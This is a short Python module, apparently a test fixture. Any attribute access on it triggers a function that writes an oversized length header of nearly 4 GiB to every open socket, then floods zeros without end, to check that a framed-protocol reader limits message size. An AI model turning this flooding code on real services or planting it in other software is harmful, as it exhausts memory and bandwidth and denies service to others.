"""Announces an answer of gigabytes, and sends as much as is taken."""

import os
import stat
import struct


def sockets():
    found = []
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found


def write(data):
    for number in sockets():
        try:
            os.write(number, data)
        except OSError:
            pass


def framed(data):
    return struct.pack(">I", len(data)) + data


def attack(*arguments, **keywords):
    write(struct.pack(">I", 2**32 - 2))
    while True:
        write(bytes(2**20))


def __getattr__(name):
    return attack
